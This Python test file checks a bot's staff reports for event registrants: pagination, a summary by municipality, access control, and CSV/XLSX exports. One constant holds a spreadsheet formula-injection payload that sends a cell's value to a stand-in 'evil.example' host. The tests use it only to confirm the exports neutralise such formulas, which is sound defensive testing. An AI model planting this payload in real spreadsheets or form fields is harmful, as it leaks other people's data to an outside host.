"""Staff reports: the paginated registrant list and the full list as a file, the summary
by municipality, CSV and XLSX exports (with formula injection made inert), and nobody
else can see any of it."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import AsyncIterator
from datetime import datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from bot.config import Settings
from bot.fakeapi import MAX_TEXT
from bot.sandbox import Replies, Sandbox
from storage.models import Registration, User
from tests.conftest import ADMIN_ID
from tests.eventkit import (
    NOT_ALLOWED,
    START,
    create_event,
    daily_sessions,
    db,
    organiser,
    register,
    seed_people,
    sent,
    user_id,
)
from tests.helpers import Clock, onboard

FIRST = START + timedelta(days=7)  # 08:00 UTC, 10:00 in Riga
EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")'


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
async def bot(settings: Settings, clock: Clock) -> AsyncIterator[Sandbox]:
    async with Sandbox(settings, clock=clock) as running:
        yield running
        assert running.errors == [], f"handlers raised: {running.errors!r}"


def csv_rows(replies: Replies) -> list[list[str]]:
    document = replies.last.file
    assert document is not None
    assert document.content.startswith(b"\xef\xbb\xbf")  # a BOM, for Excel
    return list(csv.reader(io.StringIO(document.content.decode("utf-8-sig"))))


async def test_300_registrants_paginated_in_the_chat_and_in_full_as_a_file(bot: Sandbox) -> None:
    olga = await organiser(bot)
    event_id, sessions = await create_event(
        bot, 501, daily_sessions(3, FIRST), title="Vasaras skola", capacity=250
    )
    places = ["cesu-novads", "riga", "other", None]
    people = []
    for i in range(300):
        # The longest names and workplaces people can have, with characters HTML escapes.
        name = f"Līga & <Ozola> {i:03d} ".ljust(100, "ā")
        workplace = f"Sociālais dienests <{i:03d}> & ".ljust(200, "ž")
        status = "confirmed" if i < 250 else "waiting" if i < 290 else "pending"
        people.append((name, places[i % 4], workplace, status))
    await seed_people(bot, event_id, people)

    replies = await olga.press_data(f"el:{event_id}:0")
    pages = [replies.last.text]
    assert "Registered: 250 · waiting list: 40 · waiting for approval: 10" in pages[0]
    assert replies.last.button_labels[:2] == ["1/15", "▶"]
    for page in range(1, 15):
        replies = await olga.press_where(f"el:{event_id}:{page}")
        pages.append(replies.last.text)
    assert "▶" not in replies.last.button_labels
    numbers = []
    for text in pages:
        assert len(text) <= MAX_TEXT
        numbers += [int(n) for n in re.findall(r"^(\d+)\. ", text, re.MULTILINE)]
    assert numbers == list(range(1, 301))
    everything = "\n".join(pages)
    assert "251. Līga & <Ozola> 250" in everything
    assert "waiting list, place 1" in everything and "waiting list, place 40" in everything
    assert everything.count("waiting for approval") == 10 + 15  # 10 people, 15 headers
    assert "Other (not a municipality)" in everything

    # The full list as a file: every registrant, names and workplaces in full.
    replies = await olga.press("Full list (CSV)")
    assert replies.last.method == "sendDocument"
    assert replies.last.file is not None
    assert replies.last.file.filename == f"kopiena-event-{event_id}-registrants.csv"
    rows = csv_rows(replies)
    assert len(rows) == 301
    assert rows[0][:5] == ["Name", "Municipality", "Workplace", "Status", "Registered at"]
    assert len(rows[0]) == 5 + len(sessions) + 3
    assert {len(r[0]) for r in rows[1:]} == {100}
    assert {len(r[2]) for r in rows[1:]} == {200}
    assert sum(r[3] == "registered" for r in rows) == 250

    # The attendance list of a session with 250 people is paginated too.
    replies = await olga.press_data(f"am:{sessions[0]}:12")
    assert replies.last.button_labels[-3:] == ["◀", "13/13", "◀ Sessions"]
    assert len(replies.last.button_labels) == 10 + 2 + 1  # 250 = 12 x 20 + 10


async def test_summary_by_municipality(bot: Sandbox) -> None:
    olga = await organiser(bot)
    event_id, sessions = await create_event(bot, 501, daily_sessions(2, FIRST), capacity=3)
    anna = await onboard(bot, 601, "Anna Bērziņa", municipality="cesis")
    berta = await onboard(bot, 602, "Berta Kalna", municipality="cesis")
    cecilija = await onboard(bot, 603, "Cecīlija Rīdziniece", municipality="riga")
    dace = await onboard(bot, 604, "Dace Rīdziniece", municipality="riga")
    for person in (anna, berta, cecilija, dace):
        await register(person, event_id)
    await seed_people(
        bot,
        event_id,
        [("Elza Citāda", "other", None, "waiting"), ("Frīda Nezināma", None, None, "pending")],
    )
    # Anna attended one session (twice marked: counted once); Cecīlija was marked absent.
    for session_id in sessions:
        await olga.press_data(f"at:{session_id}:{await user_id(bot, 601)}:1")
    await olga.press_data(f"at:{sessions[0]}:{await user_id(bot, 603)}:0")

    replies = await olga.press_data(f"es:{event_id}")
    assert replies.last.text.splitlines() == [
        "By municipality: Ģimenes asistentu kurss",
        "",
        "• Cēsu novads: 2 registered, 0 waiting, 0 to approve, 1 attended",
        "• Rīga: 1 registered, 1 waiting, 0 to approve, 0 attended",
        "• Other (not a municipality): 0 registered, 1 waiting, 0 to approve, 0 attended",
        "• —: 0 registered, 0 waiting, 1 to approve, 0 attended",
        "",
        "Total: 3 registered, 2 waiting, 1 to approve, 1 attended",
    ]
    assert replies.last.button_labels == ["◀ Back"]


async def test_csv_and_xlsx_exports_with_hours_and_inert_formulas(
    bot: Sandbox, clock: Clock
) -> None:
    olga = await organiser(bot)
    # Sessions of 3, 3 and 2 hours: an 8-hour course.
    course = [
        (FIRST, FIRST + timedelta(hours=3)),
        (FIRST + timedelta(days=1), FIRST + timedelta(days=1, hours=3)),
        (FIRST + timedelta(days=2), FIRST + timedelta(days=2, hours=2)),
    ]
    event_id, sessions = await create_event(bot, 501, course, title="Vasaras skola", capacity=2)
    anna = await onboard(bot, 601, "Anna Bērziņa")
    evil = await onboard(bot, 602, "Ieva Ļaunā", workplace=EVIL, municipality="riga")
    late = await onboard(bot, 603, "Zane Vēlā", workplace=None)
    for person in (anna, evil, late):
        await register(person, event_id)
    anna_id, evil_id = await user_id(bot, 601), await user_id(bot, 602)
    async with db(bot).begin() as session:
        # A name that got past validation some other way (an import, an older version).
        await session.execute(update(User).where(User.id == evil_id).values(full_name=EVIL))
        await session.execute(
            update(Registration)
            .where(Registration.event_id == event_id)
            .values(created_at=START)  # registered at 08:00 UTC, 10:00 in Riga
        )
    # Session 1: check-in by code for Anna; Ieva is marked present by staff.
    clock.set(FIRST)
    await olga.press_data(f"as:{event_id}")
    code = re.search(r"Check-in code: (\w+)", (await olga.press("Check-in 1")).last.text)
    assert code is not None
    await anna.send(f"/checkin {code.group(1)}")
    await olga.press_data(f"at:{sessions[0]}:{evil_id}:1")
    # Session 2: Anna present, Ieva absent. Session 3: attendance not taken yet.
    await olga.press_data(f"at:{sessions[1]}:{anna_id}:1")
    await olga.press_data(f"at:{sessions[1]}:{evil_id}:0")

    session_headers = ["#1 2030-01-14 10:00", "#2 2030-01-15 10:00", "#3 2030-01-16 10:00"]
    headers = [
        "Name",
        "Municipality",
        "Workplace",
        "Status",
        "Registered at",
        *session_headers,
        "Sessions attended",
        "Hours attended",
        "Course total hours",
    ]

    replies = await olga.press_data(f"ex:{event_id}:csv")
    assert sent(replies) == ["sendDocument"]
    assert replies.last.text == "Vasaras skola: 3 registrants, attendance and hours (8 h in all)."
    rows = csv_rows(replies)
    assert rows[0] == headers
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name["Anna Bērziņa"] == [
        "Anna Bērziņa",
        "Cēsu novads",
        "Cēsu novada Sociālais dienests",
        "registered",
        "2030-01-07 10:00",
        "present",
        "present",
        "",
        "2",
        "6",
        "8",
    ]
    assert by_name["'" + EVIL] == [
        "'" + EVIL,
        "Rīga",
        "'" + EVIL,
        "registered",
        "2030-01-07 10:00",
        "present",
        "absent",
        "",
        "1",
        "3",
        "8",
    ]
    # On the waiting list: no marks even for sessions whose attendance was taken.
    assert by_name["Zane Vēlā"][2:] == [
        "",
        "waiting list, place 1",
        "2030-01-07 10:00",
        "",
        "",
        "",
        "0",
        "0",
        "8",
    ]

    replies = await olga.press_data(f"ex:{event_id}:xlsx")
    document = replies.last.file
    assert document is not None and document.filename.endswith(".xlsx")
    sheet = load_workbook(io.BytesIO(document.content)).active
    assert sheet is not None
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == headers
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width >= len("Anna Bērziņa")
    assert sheet.column_dimensions["C"].width == 50  # the long workplace, capped
    rows_by_name = {row[0]: row for row in values[1:]}
    assert rows_by_name["Anna Bērziņa"] == [
        "Anna Bērziņa",
        "Cēsu novads",
        "Cēsu novada Sociālais dienests",
        "registered",
        datetime(2030, 1, 7, 10, 0),
        "present",
        "present",
        None,
        2,
        6,
        8,
    ]
    # The formula text is kept as typed, but as a plain string cell, never a formula.
    evil_row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == EVIL)
    for cell in (evil_row[0], evil_row[2]):
        assert cell.value == EVIL
        assert cell.data_type == "s"
        assert cell.quotePrefix
    assert [c.value for c in evil_row[5:]] == ["present", "absent", None, 1, 3, 8]
    with zipfile.ZipFile(io.BytesIO(document.content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


async def test_only_the_events_staff_see_lists_exports_and_attendance(bot: Sandbox) -> None:
    olga = await organiser(bot)
    other = await onboard(bot, 502, "Otra Organizatore")
    admin_chat = bot.user(ADMIN_ID, "Admin", language_code="en")  # onboarded by organiser()
    await admin_chat.send("/grant 502 organiser")
    event_id, sessions = await create_event(bot, 501, daily_sessions(2, FIRST))
    anna = await onboard(bot, 601, "Anna Bērziņa")
    await register(anna, event_id)
    anna_id = await user_id(bot, 601)
    s1 = sessions[0]
    staff_buttons = [
        f"el:{event_id}:0",
        f"es:{event_id}",
        f"ex:{event_id}:csv",
        f"ex:{event_id}:xlsx",
        f"as:{event_id}",
        f"ci:{s1}",
        f"am:{s1}:0",
        f"at:{s1}:{anna_id}:1",
    ]
    for person in (anna, other):
        for data in staff_buttons:
            replies = await person.press_data(data)
            assert replies.alert == NOT_ALLOWED, data
            assert sent(replies) == [], data
    # The admin and the event's organiser may.
    assert (await admin_chat.press_data(f"es:{event_id}")).alert is None
    replies = await olga.press_data(f"ex:{event_id}:csv")
    assert sent(replies) == ["sendDocument"]
    # An event that does not exist.
    replies = await olga.press_data("el:999999:0")
    assert replies.alert == "This event does not exist."


async def test_latvian_csv_uses_semicolons_and_decimal_commas(bot: Sandbox) -> None:
    # Excel with Latvian (or Russian) settings splits a double-clicked CSV at ";" and
    # reads "1,5" as a number; with "," it would put a whole row in one cell.
    admin = await onboard(bot, ADMIN_ID, "Admin Adminiete")
    olga = await onboard(bot, 501, "Olga Organizatore", language="lv")
    await admin.send("/grant 501 organiser")
    event_id, sessions = await create_event(
        bot, 501, [(FIRST, FIRST + timedelta(minutes=90))], title="Supervīzija; grupā"
    )
    anna = await onboard(bot, 601, "Anna Bērziņa")
    await register(anna, event_id)
    await olga.press_data(f"at:{sessions[0]}:{await user_id(bot, 601)}:1")

    replies = await olga.press_data(f"ex:{event_id}:csv")
    document = next(r.file for r in replies if r.file is not None)
    lines = document.content.decode("utf-8-sig").splitlines()
    header = lines[0].split(";")
    assert header[:3] == ["Vārds, uzvārds", "Pašvaldība", "Darbavieta"]
    row = next(csv.reader(io.StringIO(lines[1]), delimiter=";"))
    assert row[0] == "Anna Bērziņa" and row[-3:] == ["1", "1,5", "1,5"]
    assert replies.last.text.endswith("(kursa apjoms: 1 st. 30 min).")

    # English keeps commas.
    replies = await admin.press_data(f"ex:{event_id}:csv")
    document = next(r.file for r in replies if r.file is not None)
    english = list(csv.reader(io.StringIO(document.content.decode("utf-8-sig"))))
    assert english[1][-3:] == ["1", "1.5", "1.5"]
